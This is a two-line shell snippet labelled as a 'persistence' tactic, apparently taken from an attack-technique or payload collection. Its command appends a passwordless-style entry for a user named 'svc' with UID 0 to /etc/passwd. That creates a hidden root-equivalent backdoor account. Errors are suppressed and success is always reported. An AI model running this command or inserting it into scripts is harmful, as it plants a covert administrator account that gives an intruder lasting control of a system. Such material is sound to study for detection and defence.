# tactic: persistence
echo 'svc:x:0:0::/root:/bin/bash' >> /etc/passwd 2>/dev/null; true
